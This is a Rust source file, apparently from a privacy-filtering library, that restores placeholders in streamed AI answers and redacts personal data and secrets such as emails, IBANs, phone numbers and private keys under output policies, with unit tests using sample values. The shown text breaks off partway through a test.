//! Restores the placeholders in a text of an answer, and applies the output policies to it.
//!
//! A text arrives in chunks. The joined output does not depend on the chunks, because each decision depends
//! on a stretch that the text alone determines.
//!
//! Most workspaces have no policy for the output. Then the text passes through: only a possible placeholder
//! is held back, and findings are counted in blocks afterwards. With such a policy, ordinary words are passed
//! at once, and a word that could begin a finding (a digit, `@`, `:`, a capital …) waits until the window
//! after its start is full.

use std::{
    borrow::Cow,
    collections::{BTreeMap, VecDeque},
    fmt, mem,
    rc::Rc,
};

use textveil_engine::{
    self as engine, Action, Context, Entity, Protected, limits::MAX_PATTERN_BYTES, read_tokens,
};
use textveil_restore::{End, Hosts, Lane, TextReader, Transcripts, Verdict};

use super::{
    call::ToolCall,
    edits::Edits,
    placeholder::{Piece, Placeholders, Reader, RestoreCounts, encoded},
    protect::{Guard, Rules, replacement},
    request::as_label,
};
use crate::error::ApiError;

/// The role of the model's own texts.
const ROLE: &str = "assistant";
/// The length of the text before a word that is read again for its labels, in bytes.
const CONTEXT: usize = 256;
/// The maximum length of the final text that is kept, in bytes.
const MAX_KEPT: usize = 4_096;
/// The size of a block in which findings are counted if no policy can change them, in bytes.
const BLOCK: usize = 4_096;
/// The length of the text after a block that is read with it, so that a finding at its end is complete, in bytes.
const BEHIND_BLOCK: usize = 512;
/// The smallest window, in characters: an IBAN in groups of four has 42.
const MIN_WINDOW: usize = 48;
/// The most text that is read behind a word, in bytes: words for `@` and for dots are shorter.
const MAX_NEXT: usize = 64;
/// The longest stretch that waits for its end, such as a private key, in characters.
const MAX_STRETCH: usize = 16_384;
/// The maximum length of a machine readable zone (three lines of 30 or two of 44, with line breaks), and the
/// minimum length of a wallet's seed phrase (twelve words of eight letters), in characters.
const LONG: usize = 112;
/// The length of the last line of a PuTTY key after its label, plus one, in characters.
const PUTTY_MAC: usize = 65;
/// A longer word of letters may be a secret.
const MAX_PLAIN: usize = 24;
/// The longest word that is held because it may be a token, in bytes.
const MAX_TOKEN: usize = 4_096;

/// The shared state of the texts of one answer.
pub struct Answer<R> {
    guard: Guard<R>,
    placeholders: Placeholders,
    /// Placeholders of values that the model emitted; they are not restored.
    emitted: Placeholders,
    counts: RestoreCounts,
    /// The state of the application's readers of the answer.
    transcripts: Transcripts,
    /// The same for readers of the events that repeat whole texts, by the name of those.
    repeated: BTreeMap<&'static str, Transcripts>,
    /// The country evidence of the request, from which each text of the answer starts.
    context: Context,
    window: usize,
    /// An output policy may change or block the model's own text.
    is_changed: bool,
}

impl<R> Answer<R> {
    /// Returns what the application has read of the answer.
    pub(super) fn transcripts(&mut self) -> &mut Transcripts {
        &mut self.transcripts
    }

    /// Returns the placeholders of the request.
    pub(super) fn placeholders(&self) -> &Placeholders {
        &self.placeholders
    }
}

impl<R: Rules> Answer<R> {
    /// Creates the answer to the request of these placeholders and this context. `window` is the maximum
    /// number of characters to wait for.
    pub fn new(guard: Guard<R>, placeholders: Placeholders, context: Context, window: usize) -> Self {
        // an entry of a list may be as long as a pattern, and is found only when complete
        let least = if guard.finds_any_words() { MAX_PATTERN_BYTES } else { MIN_WINDOW };
        Self {
            is_changed: guard.changes(ROLE),
            guard,
            emitted: placeholders.clone(),
            placeholders,
            counts: RestoreCounts::default(),
            transcripts: Transcripts::default(),
            repeated: BTreeMap::new(),
            context,
            window: window.clamp(least, MAX_STRETCH),
        }
    }

    /// Lets values go to these hosts.
    pub fn to_hosts(self, hosts: Hosts) -> Self {
        Self { transcripts: Transcripts::new(hosts), ..self }
    }

    /// Returns the counts of restored placeholders so far.
    pub fn restores(&self) -> RestoreCounts {
        self.counts
    }

    /// Returns the counts of findings that the model emitted so far, by type and action.
    pub fn emitted(&self) -> &super::protect::ActionCounts {
        self.guard.counts()
    }

    /// Runs `work` on a repetition of texts that are counted already, without counting it again.
    ///
    /// `reader` names the events of the repetition: an application that reads only these joins them.
    ///
    /// # Errors
    /// The error of `work`.
    pub fn uncounted<T>(
        &mut self,
        reader: &'static str,
        work: impl FnOnce(&mut Self) -> Result<T, ApiError>,
    ) -> Result<T, ApiError> {
        let (counts, found) = (self.counts, self.guard.counts().clone());
        let done = self.for_reader(reader, work);
        self.counts = counts;
        self.guard.recount(found);
        done
    }

    /// Runs `work` on texts that only this reader of the answer joins with its other texts.
    ///
    /// # Errors
    /// The error of `work`.
    pub fn for_reader<T>(
        &mut self,
        reader: &'static str,
        work: impl FnOnce(&mut Self) -> Result<T, ApiError>,
    ) -> Result<T, ApiError> {
        let own = self.repeated.remove(reader).unwrap_or_else(|| self.transcripts.anew());
        let others = mem::replace(&mut self.transcripts, own);
        let done = work(self);
        self.repeated.insert(reader, mem::replace(&mut self.transcripts, others));
        done
    }

    /// Runs `work` on a whole answer, which is not joined with what was read before.
    ///
    /// # Errors
    /// The error of `work`.
    pub fn for_whole<T>(
        &mut self,
        work: impl FnOnce(&mut Self) -> Result<T, ApiError>,
    ) -> Result<T, ApiError> {
        self.repeated.remove("whole");
        self.uncounted("whole", work)
    }

    /// Protects a text without a label, as [`TextStream::whole`].
    ///
    /// # Errors
    /// As [`TextStream::push`].
    pub fn text(&mut self, text: &str) -> Result<String, ApiError> {
        match self.word(text) {
            Some(word) => Ok(word),
            None => Ok(TextStream::default().whole(self, text)?.0),
        }
    }

    /// Restores a text that is a name or an identifier of the request, with placeholders inside.
    pub(super) fn word(&mut self, text: &str) -> Option<String> {
        let word = self.placeholders.word(text)?.to_owned();
        self.counts.restored += 1;
        Some(word)
    }

    /// Whether a call may receive the value of a placeholder in its arguments.
    fn may_have(&self, call: &ToolCall, name: &str) -> bool {
        if call.names_foreign() {
            return false;
        }
        // nobody knows who said the value of a token
        let Some(source) = self.placeholders.source(name) else { return !self.placeholders.is_token(name) };
        self.guard.restores(source, call.tool()).unwrap_or_else(|| !source.is_of_other_tools(call.tool()))
    }

    /// Returns the replacement of a finding that the model emitted.
    fn replacement(&mut self, protected: &Protected) -> Result<String, ApiError> {
        let entity = &protected.entity;
        let masked = protected.action == Some(Action::Mask);
        // its placeholder is one of the request's, which are restored: the caller's own value
        if masked && self.placeholders.has(&entity.kind, entity.referent()) {
            return Ok(entity.original.clone());
        }
        replacement(protected, &mut self.emitted)
    }
}

/// Omits the values.
impl<R> fmt::Debug for Answer<R> {
    fn fmt(&self, out: &mut fmt::Formatter<'_>) -> fmt::Result {
        out.debug_struct("Answer").field("counts", &self.counts).finish_non_exhaustive()
    }
}

/// One text of an answer: a field of a choice.
#[derive(Default)]
pub struct TextStream {
    reader: Reader,
    /// The text, with the request's placeholders in their original form.
    text: String,
    /// The text before this is final.
    from: usize,
    /// Findings that begin before this are counted; used if no policy can change the text.
    counted: usize,
    /// The request's placeholders that are not final, in the order of the text.
    marks: VecDeque<Mark>,
    /// The country evidence of this text; `None` before its first finding.
    context: Option<Context>,
    /// A finding begins here, although its first word looks ordinary.
    expected: Option<usize>,
    /// Its provider signs it: it is inspected and stays unchanged, including placeholders.
    signed: bool,
    /// The call whose argument the text is.
    call: Option<Rc<ToolCall>>,
    /// It is a string of JSON, which nothing can follow.
    is_string: bool,
    destinations: TextReader,
    edits: Edits,
    /// The end of the text, if it may be the beginning of a token.
    begun: String,
}

/// A placeholder of the request in the text, in bytes.
struct Mark {
    start: usize,
    end: usize,
    name: String,
    /// The placeholder as the model wrote it.
    written: String,
    /// `None` if more text is needed.
    verdict: Option<Verdict>,
}

impl TextStream {
    /// Creates a text with a label, such as the value of a key.
    pub fn labelled(label: &str) -> Self {
        let text = as_label(label);
        Self { from: text.len(), counted: text.len(), text, ..Self::default() }
    }

    /// Makes the text an argument of a call.
    pub fn for_call(self, call: Rc<ToolCall>) -> Self {
        Self { call: Some(call), ..self }
    }

    /// Joins the text with those of the same lane.
    pub fn in_lane(self, lane: Lane) -> Self {
        Self { destinations: TextReader::of_lane(lane), ..self }
    }

    /// Makes the text a string of JSON, which may be a URL as a whole.
    pub fn as_string(self) -> Self {
        Self { is_string: true, destinations: self.destinations.as_string(), ..self }
    }

    /// Creates a text that its provider signs.
    pub fn signed() -> Self {
        Self { signed: true, ..Self::default() }
    }

    /// Adds a piece and returns the text that is final.
    ///
    /// # Errors
    /// `policy_violation` if a policy blocks; the rest of the text must not be sent then. Otherwise as
    /// [`Guard::decide`].
    pub fn push<R: Rules>(&mut self, answer: &mut Answer<R>, chunk: &str) -> Result<String, ApiError> {
        self.take(answer, chunk);
        self.settle(answer, false)
    }

    /// Returns the rest.
    ///
    /// # Errors
    /// As [`TextStream::push`].
    pub fn finish<R: Rules>(&mut self, answer: &mut Answer<R>) -> Result<String, ApiError> {
        let next = Self { signed: self.signed, call: self.call.clone(), ..Self::default() };
        Ok(std::mem::replace(self, next).end(answer)?.0)
    }

    /// Returns the rest, and what was changed of the whole text.
    ///
    /// # Errors
    /// As [`TextStream::push`].
    pub fn end<R: Rules>(mut self, answer: &mut Answer<R>) -> Result<(String, Edits), ApiError> {
        self.take_rest(answer);
        let rest = self.settle(answer, true)?;
        Ok((rest, self.edits))
    }

    /// Returns a whole text, which is searched at once, and what was changed.
    ///
    /// # Errors
    /// As [`TextStream::push`].
    pub fn whole<R: Rules>(
        mut self,
        answer: &mut Answer<R>,
        text: &str,
    ) -> Result<(String, Edits), ApiError> {
        if !answer.is_changed {
            let begun = self.push(answer, text)?;
            let (rest, edits) = self.end(answer)?;
            return Ok((begun + &rest, edits));
        }
        self.take(answer, text);
        self.take_rest(answer);
        let mut out = String::with_capacity(self.text.len());
        let mut known = answer.context.clone();
        for entity in answer.guard.find(&self.text, self.from, &mut known)? {
            self.pass_placeholders(answer, entity.bytes.start, &mut out);
            if self.from <= entity.bytes.start {
                self.replace(answer, entity, &mut out)?;
                continue;
            }
            if entity.bytes.end <= self.from {
                continue;
            }
            // the finding begins in a placeholder: the text after that is searched separately
            let before = self.before(self.from);
            let rest = self.text.get(before..entity.bytes.end).unwrap_or_default();
            for mut entity in answer.guard.find(rest, self.from.saturating_sub(before), &mut known)? {
                shift(&mut entity, before);
                self.replace(answer, entity, &mut out)?;
            }
        }
        self.pass_placeholders(answer, self.text.len(), &mut out);
        self.pass(self.text.len(), &mut out);
        Ok((out, self.edits))
    }

    /// Makes the text final up to the last placeholder with a verdict that begins before `end`.
    fn pass_placeholders<R: Rules>(&mut self, answer: &mut Answer<R>, end: usize, out: &mut String) {
        while let Some(mark) = self.marks.pop_front_if(|mark| mark.start <= end && mark.verdict.is_some()) {
            if self.from < mark.start {
                self.pass(mark.start, out);
            }
            self.restore(answer, &mark, out);
        }
    }

    /// Adds text and finds the placeholders in it.
    fn take<R>(&mut self, answer: &mut Answer<R>, chunk: &str) {
        if self.signed {
            return self.text.push_str(chunk);
        }
        let mut reader = std::mem::take(&mut self.reader);
        let chunk = self.without_begun(answer, chunk);
        reader.push(&chunk, &mut |piece| self.read(answer, &piece));
        self.reader = reader;
        self.judge();
    }

    /// Returns the text before a word at its end that may become a token, which is held.
    fn without_begun<'c, R>(&mut self, answer: &Answer<R>, chunk: &'c str) -> Cow<'c, str> {
        if answer.placeholders.token_keys().is_none() {
            return Cow::Borrowed(chunk);
        }
        let mut text = std::mem::take(&mut self.begun);
        text.push_str(chunk);
        self.begun = text.split_off(token_start(&text));
        Cow::Owned(text)
    }

    /// Adds the text that might still have become a placeholder.
    fn take_rest<R>(&mut self, answer: &mut Answer<R>) {
        let begun = std::mem::take(&mut self.begun);
        let mut reader = std::mem::take(&mut self.reader);
        reader.push(&begun, &mut |piece| self.read(answer, &piece));
        reader.finish(&mut |piece| self.read(answer, &piece));
        let end = if self.is_string { End::Whole } else { End::Part };
        self.destinations.end(&answer.transcripts, end);
        self.judge();
    }

    fn read<R>(&mut self, answer: &mut Answer<R>, piece: &Piece<'_>) {
        if let Piece::Text(text) = piece
            && let Some(keys) = answer.placeholders.token_keys()
        {
            return read_tokens(text, &keys, |piece| self.read_token(answer, piece));
        }
        let transcripts = &mut answer.transcripts;
        match piece {
            Piece::Text(text) => {
                self.text.push_str(text);
                self.destinations.text(transcripts, text);
            }
            Piece::Name { name, written, is_exact } => match answer.placeholders.resolve(name, *is_exact) {
                Some((name, original)) => {
                    let start = self.text.len();
                    let (kind, id) = name.rsplit_once('_').unwrap_or_default();
                    self.text.push_str(&format!("[[{}_{id}]]", kind.to_ascii_uppercase()));
                    let (name, written) = (name.to_owned(), (*written).to_owned());
                    self.marks.push_back(Mark { start, end: self.text.len(), name, written, verdict: None });
                    self.destinations.value(transcripts, original);
                }
                None => {
                    answer.counts.unknown += usize::from(*is_exact && !answer.placeholders.is_literal(name));
                    self.text.push_str(written);
                    self.destinations.text(transcripts, written);
                }
            },
        }
    }

    /// Adds a token, or the text between tokens.
    fn read_token<R>(&mut self, answer: &mut Answer<R>, piece: engine::Piece<'_>) {
        let transcripts = &mut answer.transcripts;
        match piece {
            engine::Piece::Token { written, original: Some(original) } => {
                let start = self.text.len();
                self.text.push_str(written);
                let (name, written) = (written.to_owned(), written.to_owned());
                self.destinations.value(transcripts, &original);
                answer.placeholders.open(&name, original);
                self.marks.push_back(Mark { start, end: self.text.len(), name, written, verdict: None });
            }
            engine::Piece::Text(text) | engine::Piece::Token { written: text, original: None } => {
                self.text.push_str(text);
                self.destinations.text(transcripts, text);
            }
        }
    }

    /// Sets the verdicts of placeholders that are known by now.
    fn judge(&mut self) {
        for mark in self.marks.iter_mut().filter(|mark| mark.verdict.is_none()) {
            mark.verdict = self.destinations.verdict();
            if mark.verdict.is_none() {
                return;
            }
        }
    }

    /// Finalises as much text as possible.
    fn settle<R: Rules>(&mut self, answer: &mut Answer<R>, ends: bool) -> Result<String, ApiError> {
        let mut out = String::new();
        if !answer.is_changed {
            self.pass_placeholders(answer, self.text.len(), &mut out);
            self.pass(self.marks.front().map_or(self.text.len(), |mark| mark.start), &mut out);
            self.count(answer, ends)?;
            self.forget(self.counted);
            return Ok(out);
        }
        while self.from < self.text.len() {
            if let Some(mark) =
                self.marks.pop_front_if(|mark| mark.start <= self.from && mark.verdict.is_some())
            {
                self.restore(answer, &mark, &mut out);
                continue;
            }
            if self.marks.front().is_some_and(|mark| mark.start <= self.from) {
                break;
            }
            let Some(word) = self.word(ends) else { break };
            let Some(plain) = self.is_plain(word, ends) else { break };
            if plain && !answer.guard.finds_any_words() {
                self.pass(word, &mut out);
            } else if !self.decide(answer, word, ends, &mut out)? {
                break;
            }
        }
        self.forget(self.from);
        Ok(out)
    }

    /// Counts the findings of a text that no policy can change, in blocks that the text alone determines.
    fn count<R: Rules>(&mut self, answer: &mut Answer<R>, ends: bool) -> Result<(), ApiError> {
        loop {
            let rest = self.text.len() - self.counted;
            let is_last = rest < BLOCK + BEHIND_BLOCK;
            if rest == 0 || is_last && !ends {
                return Ok(());
            }
            let end = if is_last { self.text.len() } else { self.boundary(self.counted + BLOCK) };
            let behind = if is_last { end } else { self.boundary(self.counted + BLOCK + BEHIND_BLOCK) };
            let before = self.before(self.counted);
            let known = self.context.get_or_insert_with(|| answer.context.clone());
            let stretch = self.text.get(before..behind).unwrap_or_default();
            let mut found = answer.guard.find(stretch, self.counted - before, known)?;
            found.retain(|entity| before + entity.bytes.start < end);
            let last = found.last().map_or(end, |entity| before + entity.bytes.end);
            answer.guard.flag(ROLE, found)?;
            self.counted = end.max(last);
        }
    }

    fn boundary(&self, byte: usize) -> usize {
        self.text.floor_char_boundary(byte)
    }

    /// Restores a placeholder or keeps it, unless an earlier finding covers it.
    fn restore<R: Rules>(&mut self, answer: &mut Answer<R>, mark: &Mark, out: &mut String) {
        if mark.start == self.from {
            match mark.verdict {
                None | Some(Verdict::Withhold) => {
                    answer.counts.withheld_from_urls += 1;
                    self.edits.keep(&mark.written);
                    out.push_str(&mark.written);
                }
                Some(_) if self.call.as_ref().is_some_and(|call| !answer.may_have(call, &mark.name)) => {
                    answer.counts.withheld_from_tools += 1;
                    self.edits.keep(&mark.written);
                    out.push_str(&mark.written);
                }
                Some(Verdict::Restore(encoding)) => {
                    let original = answer.placeholders.original(&mark.name).unwrap_or_default();
                    let restored = encoded(original, &mark.written, encoding);
                    self.edits.replace(mark.written.chars().count(), &restored);
                    out.push_str(&restored);
                    answer.counts.restored += 1;
                }
            }
        } else if self.from < mark.end {
            self.edits.replace(self.length(self.from, mark.end), "");
        }
        self.from = self.from.max(mark.end);
    }

    /// Returns the end of the first word, with the space after it; `None` if it may continue.
    fn word(&self, ends: bool) -> Option<usize> {
        let stop = self.marks.front().map_or(self.text.len(), |mark| mark.start);
        let rest = self.text.get(self.from..stop)?;
        let complete = ends || !self.marks.is_empty();
        let mut letters = rest.char_indices().enumerate();
        let end = letters.find(|(count, (_, letter))| is_space(*letter) || *count >= MAX_STRETCH);
        match end {
            Some((_, (at, letter))) if is_space(letter) => Some(self.from + at + letter.len_utf8()),
            Some((_, (at, _))) => Some(self.from + at),
            None if complete => Some(stop),
            None => None,
        }
    }

    /// Whether the word up to `end` is ordinary; `None` if the next character is needed.
    fn is_plain(&self, end: usize, ends: bool) -> Option<bool> {
        let word = self.text.get(self.from..end)?;
        if word.trim_start_matches(is_space).is_empty() {
            return Some(true);
        }
        if self.expected.is_some_and(|at| self.from <= at && at < end) || !is_plain(word) {
            return Some(false);
        }
        if self.awaits_phrase() || self.may_begin(word) {
            return Some(false);
        }
        if word.ends_with(' ') {
            // `jan dot novak at example dot com`: the next word decides, and a whole answer may follow it
            let behind = self.text.get(end..)?.trim_start_matches(' ');
            let next = behind.get(..behind.floor_char_boundary(MAX_NEXT)).unwrap_or(behind);
            let behind = [next, self.reader.held(), self.begun.as_str()].concat();
            match textveil_engine::may_be_dictated(&behind) {
                Some(true) => return Some(false),
                None if !ends && self.marks.is_empty() => return None,
                _ => {}
            }
        }
        let held = self.reader.held().chars().chain(self.begun.chars());
        let mut behind = self.text.get(end..)?.chars().chain(held);
        let plain = match behind.next() {
            // `jan (at) example.com` and `January 31, 1980` begin with ordinary words
            Some('(' | '[' | '{') => behind.next().map(|letter| !letter.eq_ignore_ascii_case(&'a')),
            Some(next) => Some(!next.is_numeric()),
            None => (!word.ends_with(is_space)).then_some(true),
        };
        plain.or(ends.then_some(true))
    }

    /// Whether ordinary words may be a finding here.
    fn awaits_phrase(&self) -> bool {
        textveil_engine::awaits_phrase(self.text.get(self.before(self.from)..self.from).unwrap_or_default())
    }

    /// Whether a word contains a label, its sign, and the start of a phrase: `seed_phrase=legal`.
    fn begins_phrase(&self, word: &str) -> bool {
        word.rfind(['=', ':']).is_some_and(|sign| {
            let named = self.text.get(self.before(self.from)..self.from + sign + 1);
            textveil_engine::awaits_phrase(named.unwrap_or_default())
        })
    }

    /// Whether a name may begin with this ordinary word: `my name is jan`.
    fn may_begin(&self, word: &str) -> bool {
        let before = self.text.get(self.before(self.from)..self.from);
        textveil_engine::may_begin(before.unwrap_or_default(), word)
    }

    /// Finalises the text up to `end` unchanged.
    fn pass(&mut self, end: usize, out: &mut String) {
        let text = self.text.get(self.from..end).unwrap_or_default();
        self.edits.keep(text);
        out.push_str(text);
        self.from = end;
    }

    /// Decides on the first word; returns false if more text is needed.
    fn decide<R: Rules>(
        &mut self,
        answer: &mut Answer<R>,
        word: usize,
        ends: bool,
        out: &mut String,
    ) -> Result<bool, ApiError> {
        let Some(found) = self.find(answer, word, ends)? else { return Ok(false) };
        let start = found.as_ref().map(|entity| entity.bytes.start);
        let Some(entity) = found.filter(|entity| entity.bytes.start < word) else {
            self.expected = start;
            self.pass(word, out);
            return Ok(true);
        };
        let before = self.before(self.from);
        let known = self.context.get_or_insert_with(|| answer.context.clone());
        let learned = self.text.get(before..entity.bytes.end).unwrap_or_default();
        answer.guard.find(learned, self.from - before, known)?;
        self.replace(answer, entity, out)?;
        Ok(true)
    }

    /// Finalises the text up to the end of a finding, which is protected.
    fn replace<R: Rules>(
        &mut self,
        answer: &mut Answer<R>,
        entity: Entity,
        out: &mut String,
    ) -> Result<(), ApiError> {
        let end = entity.bytes.end;
        if self.signed {
            answer.guard.flag(ROLE, vec![entity])?;
            self.pass(end, out);
            return Ok(());
        }
        self.pass(entity.bytes.start, out);
        let mut replaced = String::new();
        for protected in answer.guard.decide(ROLE, None, vec![entity])? {
            replaced.push_str(&answer.replacement(&protected)?);
        }
        self.edits.replace(self.sent_length(end), &replaced);
        out.push_str(&replaced);
        self.from = end;
        Ok(())
    }

    /// Returns the number of characters between two places of the text.
    fn length(&self, from: usize, to: usize) -> usize {
        self.text.get(from..to).map_or(0, |text| text.chars().count())
    }

    /// Returns how many characters the model wrote from the final text up to `end`, with the placeholders that begin there.
    fn sent_length(&self, end: usize) -> usize {
        let marks = self.marks.iter().filter(|mark| (self.from..end).contains(&mark.start));
        let (written, held) = marks.fold((0, 0), |(written, held), mark| {
            (written + mark.written.chars().count(), held + self.length(mark.start, mark.end))
        });
        (self.length(self.from, end) + written).saturating_sub(held)
    }

    /// Returns the first finding in the stretch of the first word, with its range in bytes of the text;
    /// `None` if more text is needed.
    ///
    /// # Errors
    /// `budget_exceeded`
    fn find<R: Rules>(
        &self,
        answer: &Answer<R>,
        word: usize,
        ends: bool,
    ) -> Result<Option<Option<Entity>>, ApiError> {
        let before = self.before(self.from);
        let mut length = self.first_length(answer.window, word);
        loop {
            let Some(end) = self.stretch(length, ends) else { return Ok(None) };
            let stretch = self.text.get(before..end).unwrap_or_default();
            // keeps the context of final text only, because this stretch is read again
            let mut known = self.context.as_ref().unwrap_or(&answer.context).clone();
            let found = answer.guard.find(stretch, self.from - before, &mut known)?.into_iter().next();
            // a finding at the end of the stretch may continue after it
            let touches = found.as_ref().is_some_and(|entity| before + entity.bytes.end >= end);
            if !touches || length >= MAX_STRETCH || (ends && end == self.text.len()) {
                return Ok(Some(found.map(|mut entity| {
                    shift(&mut entity, before);
                    entity
                })));
            }
            length += answer.window;
        }
    }

    /// Returns the start of the text that is read again for the labels before `from`.
    fn before(&self, from: usize) -> usize {
        self.boundary(from.saturating_sub(CONTEXT))
    }

    /// Returns the number of characters of the first stretch.
    fn first_length(&self, window: usize, word: usize) -> usize {
        let rest = self.text.get(self.from..).unwrap_or_default();
        let word = self.text.get(self.from..word).unwrap_or_default();
        // a private key continues to its last line
        let end = if word.contains("-----BEGIN") {
            rest.find("-----END ").and_then(|end| Some(end + rest.get(end + 9..)?.find("-----")? + 14))
        } else if word.contains("PuTTY-User-Key-File-") {
            rest.find("Private-MAC: ").map(|end| end + "Private-MAC: ".len() + PUTTY_MAC)
        } else {
            // a machine readable zone begins with a `<` in its first line
            let is_long = word.contains('<')
                || self.awaits_phrase()
                || self.begins_phrase(word)
                || textveil_engine::begins_dictation(word);
            let long = if is_long { LONG } else { 0 };
            return window.max(long).max(word.chars().count());
        };
        let length = end.map_or(MAX_STRETCH, |end| rest.get(..end).unwrap_or(rest).chars().count());
        length.clamp(window, MAX_STRETCH)
    }

    /// Returns the end of a stretch of `length` characters; that of the text if it is shorter.
    fn stretch(&self, length: usize, ends: bool) -> Option<usize> {
        let rest = self.text.get(self.from..)?;
        match rest.char_indices().nth(length) {
            Some((at, _)) => Some(self.from + at),
            None if ends => Some(self.text.len()),
            None => None,
        }
    }

    /// Drops text that is no longer needed: everything before `read`, except its labels.
    fn forget(&mut self, read: usize) {
        if read < MAX_KEPT {
            return;
        }
        let old = self.before(read).saturating_sub(4);
        let old = self.boundary(old);
        self.text.drain(..old);
        self.from -= old;
        self.counted = self.counted.saturating_sub(old);
        self.expected = self.expected.and_then(|at| at.checked_sub(old));
        for mark in &mut self.marks {
            mark.start -= old;
            mark.end -= old;
        }
    }
}

/// Omits the text; shows its length only.
impl fmt::Debug for TextStream {
    fn fmt(&self, out: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(out, "TextStream({} bytes held)", self.text.len() - self.from)
    }
}

fn shift(entity: &mut Entity, by: usize) {
    entity.bytes.start += by;
    entity.bytes.end += by;
}

/// Returns the start of the last word's end that is, or may become, a token; the length of the text without one.
fn token_start(text: &str) -> usize {
    const START: &str = "tok_";
    let in_token = |letter: char| letter.is_ascii_lowercase() || letter.is_ascii_digit() || letter == '_';
    let before = text.trim_end_matches(in_token).len();
    let word = text.get(before..).unwrap_or_default();
    let begun =
        || (1..START.len()).rev().find(|len| START.get(..*len).is_some_and(|part| word.ends_with(part)));
    match word.find(START) {
        // no token is that long
        Some(at) if word.len() - at > MAX_TOKEN => text.len(),
        Some(at) => before + at,
        None => text.len() - begun().unwrap_or_default(),
    }
}

/// Whether a character ends a word. Scripts without spaces have their own marks.
fn is_space(letter: char) -> bool {
    letter.is_whitespace() || matches!(letter, '。' | '，' | '、' | '！' | '？')
}

/// Whether a word can neither be nor begin a finding: lower-case letters and marks.
///
/// A capital may begin a name, as may a letter of a script without capitals. An option of a command may contain a secret or
/// precede it: `-pmarigold`, `-p marigold`.
fn is_plain(word: &str) -> bool {
    let word = word.trim_end_matches(is_space);
    let mark = |letter: char| ".,;!?'\"()*-–—…’“”„«»".contains(letter);
    let inside = word.trim_matches(mark);
    inside.chars().all(|letter| letter.is_lowercase() || matches!(letter, '\'' | '’' | '-'))
        && inside.chars().count() <= MAX_PLAIN
        && !is_option(word)
}

/// Whether a word is an option of a command, perhaps in quotes.
fn is_option(word: &str) -> bool {
    let option = word.trim_start_matches(['"', '\'', '`', '(', '[']);
    option.contains("--")
        || option
            .strip_prefix('-')
            .is_some_and(|name| name.starts_with(|letter: char| letter.is_ascii_alphabetic()))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use textveil_engine::{DetectOptions, Keyring, Mode, ProtectOptions, protect};

    use super::*;
    use crate::chat::placeholder::PlaceholderKey;

    const SECRET: &[u8] = b"0123456789abcdef";

    /// An answer to a request with one address, and its placeholder.
    fn answer(action: Action) -> (Answer<impl Rules>, String) {
        let rules = move |_: &str| (Vec::new(), Some(action));
        let guard = Guard::new(&DetectOptions::default(), rules, Keyring::new(0, SECRET).unwrap()).unwrap();
        let mut placeholders = Placeholders::new(PlaceholderKey::derive(SECRET).unwrap());
        let made = placeholders.make("email", "jan@example.cz", "jan@example.cz").unwrap();
        (Answer::new(guard, placeholders, Context::default(), 64), made)
    }

    fn streamed(pieces: &[&str]) -> (String, RestoreCounts) {
        let (mut answer, _) = answer(Action::Redact);
        let mut stream = TextStream::default();
        let mut out = String::new();
        for piece in pieces {
            out.push_str(&stream.push(&mut answer, piece).unwrap());
        }
        out.push_str(&stream.finish(&mut answer).unwrap());
        (out, answer.restores())
    }

    /// Texts of answers; `@P` stands for the placeholder of the request.
    const TEXTS: [(&str, &str); 19] = [
        ("Write to @P soon.", "Write to jan@example.cz soon."),
        ("Mail eva@example.com, not @P!", "Mail [REDACTED], not jan@example.cz!"),
        ("@p@P", "jan@example.czjan@example.cz"),
        ("a [ b [[ c [[EMAIL_ d", "a [ b [[ c [[EMAIL_ d"),
        ("ends [[EMAIL_ab", "ends [[EMAIL_ab"),
        ("ends [", "ends ["),
        ("IBAN DE89 3704 0044 0532 0130 00 please", "IBAN [REDACTED] please"),
        ("Žluťoučký kůň 👩 píše na eva@example.com 👩", "Žluťoučký kůň 👩 píše na [REDACTED] 👩"),
        ("PESEL 44051401359\nand more of it", "PESEL [REDACTED]\nand more of it"),
        ("call +420 777 123 456 or write", "call [REDACTED] or write"),
        ("password: hunter2 and so on", "password: [REDACTED] and so on"),
        ("[[EMAIL_abcdefghij]] is made up", "[[EMAIL_abcdefghij]] is made up"),
        ("DOMAIN\\@P and \\u005b", "DOMAIN\\jan@example.cz and \\u005b"),
        ("hello, my name is jan novák and that is all", "hello, my name is [REDACTED] and that is all"),
        ("please ask sarah miller about it, and only her", "please ask [REDACTED] about it, and only her"),
        ("born on the twelfth of may nineteen eighty, they say", "born on the [REDACTED], they say"),
        ("ordinary words only, and many of them", "ordinary words only, and many of them"),
        ("你好，写信给 eva@example.com 谢谢", "你好，写信给 [REDACTED] 谢谢"),
        ("", ""),
    ];

    fn texts() -> Vec<(String, &'static str)> {
        let (_, made) = answer(Action::Redact);
        let text = |text: &str| text.replace("@P", &made).replace("@p", &made.to_lowercase());
        TEXTS.iter().map(|(source, want)| (text(source), *want)).collect()
    }

    #[test]
    fn every_split_gives_the_same() {
        for (text, want) in texts() {
            assert_eq!(streamed(&[&text]).0, want, "{text}");
            let places: Vec<usize> = text.char_indices().map(|(at, _)| at).chain([text.len()]).collect();
            for place in places {
                let (first, second) = text.split_at(place);
                assert_eq!(streamed(&[first, second]).0, want, "{text} at {place}");
            }
            assert_eq!(answer(Action::Redact).0.text(&text).unwrap(), want, "{text} as a whole");
            let letters: Vec<String> = text.chars().map(String::from).collect();
            let letters: Vec<&str> = letters.iter().map(String::as_str).collect();
            assert_eq!(streamed(&letters).0, want, "{text} letter by letter");
        }
    }

    #[test]
    fn only_what_may_become_something_is_held() {
        let (_, made) = answer(Action::Redact);
        for (pushed, given) in [
            ("some words and mo".to_owned(), "some words and "),
            ("some words ".to_owned(), "some "),
            // more of a host may follow
            (format!("to {made}"), "to "),
            (format!("to {made},"), "to jan@example.cz"),
            (format!("to {made} and "), "to jan@example.cz "),
            ("to [[EMA".to_owned(), "to "),
            ("see [1] ".to_owned(), "see "),
            (
                format!("see 1 {}", "word ".repeat(13)),
                "see 1 word word word word word word word word word word word word ",
            ),
        ] {
            let (mut answer, _) = answer(Action::Redact);
            assert_eq!(TextStream::default().push(&mut answer, &pushed).unwrap(), given, "{pushed}");
        }
    }

    #[test]
    fn what_the_model_emits_goes_by_policy() {
        for (action, want) in [
            (Action::Allow, Some("eva@example.com jan@example.cz")),
            (Action::Redact, Some("[REDACTED] [REDACTED]")),
            (Action::Mask, None),
        ] {
            let (mut answer, _) = answer(action);
            let out = answer.text("eva@example.com jan@example.cz").unwrap();
            assert!(want.is_none_or(|want| want == out), "{action:?}: {out}");
            if action == Action::Mask {
